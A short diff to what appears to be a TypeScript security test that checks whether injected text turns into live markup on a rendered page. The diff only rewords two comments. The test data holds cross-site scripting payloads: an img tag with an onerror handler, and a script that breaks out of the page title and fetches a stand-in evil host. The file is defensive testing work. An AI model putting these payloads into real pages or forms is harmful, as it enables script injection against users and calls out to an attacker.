@@ -16,12 +16,12 @@ const TEXTS = ofKind('markup', 'template', 'sql', 'path', 'name', 'direction').f
 );
 const NAME = `Jo "><img src=x onerror=alert(1)>`;
 const TITLE = `Flat </title><script>fetch('${EVIL_HOST}')</script>`;
-/** What leads elsewhere is held back by the server's own look at it, and seen by nobody. */
+/** Texts with links are held back by the server's own check, and seen by nobody. */
 const DESCRIPTION = ofKind('markup')
   .filter((text) => !text.includes('/'))
   .join('\n');
 
-/** What texts would have made of a page that takes them for markup. */
+/** The elements that texts would have made of a page that takes them for markup. */
 async function cameAlive(page: Page): Promise<string[]> {
   return page.evaluate(() => {
     // The document's own list of files is data, which nothing runs.
